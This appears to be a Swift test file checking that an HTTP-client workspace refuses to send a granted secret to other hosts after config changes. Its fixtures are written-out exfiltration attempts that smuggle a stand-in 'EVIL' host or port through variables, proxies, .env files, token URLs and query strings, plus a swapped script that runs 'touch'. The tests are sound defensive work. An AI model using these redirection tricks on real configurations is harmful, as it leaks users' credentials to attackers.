import Foundation
import OmbiCore
import TestSupport
import Testing

@testable import OmbiWorkspace

/// What was granted, after the file or something beside it has changed.
@Suite struct GateChangeTests {
    /// Changes that lead a secret elsewhere, once it was granted for the good server: what is written, and to which files.
    private static let changes: [(String, [(String, String)])] = [
        ("another host", [("c.json", Stranger.file(host: "EVIL"))]),
        ("a whole URL", [("c.json", Stranger.file(path: "EVIL/"))]),
        (
            "a scheme in a variable",
            [("c.json", Stranger.file(path: "h{{v}}", more: #","variables":{"v":"ttp://127.0.0.1:EVILPORT/"}"#))]
        ),
        (
            "slashes in a variable",
            [("c.json", Stranger.file(path: "http:{{v}}", more: #","variables":{"v":"//127.0.0.1:EVILPORT/"}"#))]
        ),
        (
            "half a slash in a variable",
            [("c.json", Stranger.file(path: "HTTP:/{{v}}", more: #","variables":{"v":"/127.0.0.1:EVILPORT/"}"#))]
        ),
        (
            "a WebSocket in a variable",
            [("c.json", Stranger.file(path: "w{{v}}", more: #","variables":{"v":"s://127.0.0.1:EVILPORT/"}"#))]
        ),
        (
            "a file in the address",
            [("c.json", Stranger.file(path: "h{{$file('u')}}")), ("u", "ttp://127.0.0.1:EVILPORT/")]
        ),
        (
            "base64 in the address",
            [("c.json", Stranger.file(path: "{{v}}", more: #","variables":{"v":"{{w}}/x","w":"EVIL"}"#))]
        ),
        ("a host of a variable", [("c.json", Stranger.file(host: "{{h}}", more: #","variables":{"h":"EVIL"}"#))]),
        (
            "a host of a secret file",
            [
                (
                    "c.json",
                    Stranger.file(
                        host: "{{h}}", environment: #""secrets":{"token":{"env":"TOK"},"h":{"file":"h.txt"}}"#)
                ), ("h.txt", "EVIL"),
            ]
        ),
        (
            "a host of a .env file",
            [
                (
                    "c.json",
                    Stranger.file(
                        host: "{{h}}", environment: Stranger.token + #","envFile":"env""#,
                        more: #","variables":{"h":"GOOD"}"#)
                ), ("env", "h=EVIL\n"),
            ]
        ),
        (
            "a host of the local file",
            [
                ("c.json", Stranger.file(host: "{{h}}", more: #","variables":{"h":"GOOD"}"#)),
                ("c.local.json", #"{"version":1,"secrets":{"h":{"value":"EVIL"}}}"#),
            ]
        ),
        (
            "an environment of the local file",
            [
                ("c.json", Stranger.file()),
                ("c.local.json", #"{"version":1,"environments":[{"name":"e","host":"EVIL"}]}"#),
            ]
        ),
        (
            "a proxy",
            [
                (
                    "c.json",
                    Stranger.file(environment: Stranger.token + #","connection":{"proxy":"http://127.0.0.1:EVILPORT"}"#)
                )
            ]
        ),
        (
            "a proxy of the collection",
            [("c.json", Stranger.file(more: #","connection":{"proxy":"http://127.0.0.1:EVILPORT"}"#))]
        ),
        (
            "a proxy of the request",
            [
                (
                    "c.json",
                    Stranger.file(
                        request:
                            #""headers":[{"name":"X","value":"{{token}}"}],"connection":{"proxy":"http://127.0.0.1:EVILPORT"}"#
                    )
                )
            ]
        ),
        (
            "a proxy in a variable",
            [
                (
                    "c.json",
                    Stranger.file(
                        environment: Stranger.token + #","connection":{"proxy":"http{{p}}"}"#,
                        more: #","variables":{"p":"://127.0.0.1:EVILPORT"}"#)
                )
            ]
        ),
        (
            "a proxy with the secret",
            [
                (
                    "c.json",
                    Stranger.file(
                        environment: Stranger.token
                            + #","connection":{"proxy":"http://u:{{token}}@127.0.0.1:EVILPORT"}"#,
                        request: "")
                )
            ]
        ),
        (
            "an address",
            [
                (
                    "c.json",
                    Stranger.file(
                        host: "http://shop.test:EVILPORT",
                        environment: Stranger.token + #","connection":{"resolve":["shop.test:EVILPORT:127.0.0.1"]}"#)
                )
            ]
        ),
        (
            "user info in front of the host",
            [("c.json", Stranger.file(path: "http://127.0.0.1:GOODPORT@127.0.0.1:EVILPORT/"))]
        ),
        ("another name of the machine", [("c.json", Stranger.file(host: "http://localhost:EVILPORT"))]),
        (
            "a token URL",
            [
                (
                    "c.json",
                    Stranger.file(
                        request:
                            #""authentication":{"oauth2":{"grant":"clientCredentials","tokenURL":"EVIL/t","clientID":"i","clientSecret":"{{token}}","secretIn":"body"}}"#
                    )
                )
            ]
        ),
        (
            "a token URL in a variable",
            [
                (
                    "c.json",
                    Stranger.file(
                        request:
                            #""authentication":{"oauth2":{"grant":"clientCredentials","tokenURL":"h{{v}}","clientID":"i","clientSecret":"{{token}}"}}"#,
                        more: #","variables":{"v":"ttp://127.0.0.1:EVILPORT/t"}"#)
                )
            ]
        ),
        (
            "the body",
            [("c.json", Stranger.file(request: #""method":"POST","body":{"json":{"a":"{{token}}"}}"#, path: "EVIL/"))]
        ),
        ("the query", [("c.json", Stranger.file(request: "", path: "EVIL/?q={{token}}"))]),
        (
            "an environment that inherits",
            [
                (
                    "c.json",
                    #"{"version":1,"name":"c","environments":[{"name":"b","abstract":true,"secrets":{"token":{"env":"TOK"}}},{"name":"e","inherits":"b","host":"EVIL"}],"items":[{"request":"r","path":"/","headers":[{"name":"X","value":"{{token}}"}]}]}"#
                )
            ]
        ),
        (
            "a folder",
            [
                (
                    "c.json",
                    #"{"version":1,"name":"c","environments":[{"name":"e","host":"GOOD","secrets":{"token":{"env":"TOK"}}}],"items":[{"folder":"f","variables":{"h":"EVIL"},"headers":[{"name":"X","value":"{{token}}"}],"items":[{"request":"r","path":"{{h}}"}]}]}"#
                )
            ]
        ),
    ]

    @Test(arguments: changes.indices) func `a secret stays where it was granted for`(_ index: Int) async throws {
        let (name, files) = Self.changes[index]
        let stranger = try Stranger()
        defer { stranger.remove() }
        try stranger.write(Stranger.file())
        try stranger.trust()
        #expect(try await stranger.send().passed)
        #expect(stranger.good.requests.last?.headers["x"] == Stranger.secret, "what is granted is sent")
        for (file, text) in files { try stranger.write(text, to: file) }
        let result = try await stranger.send()
        #expect(Stranger.leaks(stranger.evil) == [], "\(name)")
        #expect(!result.passed && result.failures.joined().contains("may not send"), "\(name): \(result.failures)")
        #expect(stranger.evil.requests.isEmpty, "\(name)")
    }

    /// Promises of the way that are broken, for a host with TLS.
    private static let promises = [
        #""verifyTLS":false"#, #""connection":{"caFile":"ca.pem"}"#, #""connection":{"minimumTLS":"1.0"}"#,
        #""connection":{"resolve":["shop.test:443:127.0.0.1"]}"#, #""connection":{"proxy":"https://127.0.0.1:1"}"#,
        #""connection":{"unixSocket":"/tmp/x"}"#, #""connection":{"via":"ssh://h"}"#,
    ]

    @Test(arguments: promises) func `another promise of the way is another destination`(_ promise: String) throws {
        let stranger = try Stranger()
        defer { stranger.remove() }
        try stranger.write("ca", to: "ca.pem")
        try stranger.write(Stranger.file(host: "https://shop.test"))
        try stranger.trust()
        let flows = { stranger.session().flows(of: try stranger.collection(), file: stranger.file) }
        #expect(stranger.gate.missing(try flows(), of: stranger.file).isEmpty)
        try stranger.write(Stranger.file(host: "https://shop.test", environment: Stranger.token + "," + promise))
        #expect(!stranger.gate.missing(try flows(), of: stranger.file).isEmpty, "\(promise)")
    }

    @Test func `the certificates of the workspace are part of the promise by their content`() throws {
        let stranger = try Stranger()
        defer { stranger.remove() }
        let text = Stranger.file(
            host: "https://shop.test", environment: Stranger.token + #","connection":{"caFile":"ca.pem"}"#)
        try stranger.write("one", to: "ca.pem")
        try stranger.write(text)
        try stranger.trust()
        let isGranted = {
            let flows = stranger.session().flows(of: try stranger.collection(), file: stranger.file)
            return stranger.gate.missing(flows, of: stranger.file).isEmpty
        }
        #expect(try isGranted())
        try stranger.write("another", to: "ca.pem")
        #expect(try !isGranted())
    }

    @Test(arguments: [#"["./token"]"#, #"["sh","ABOVE/shop/token"]"#, #"["env","X=1","sh","--","ABOVE/shop/token"]"#])
    func `a program of the workspace is another one when its content changes`(_ command: String) async throws {
        let stranger = try Stranger()
        defer { stranger.remove() }
        func program(_ word: String) throws {
            try stranger.write("#!/bin/sh\necho \(word)\n", to: "token")
            chmod(stranger.folder + "/shop/token", 0o755)
        }
        try program("first")
        try stranger.write(
            Stranger.file(environment: #""secrets":{"token":{"command":COMMAND}}"#.replacing("COMMAND", with: command)))
        try stranger.trust()
        #expect(try await stranger.send().passed)
        #expect(stranger.good.requests.last?.headers["x"] == "first")
        try program("touch ABOVE/ran; echo second")
        let result = try await stranger.send()
        #expect(!result.passed && stranger.good.requests.count == 1, "\(result.failures)")
    }
}
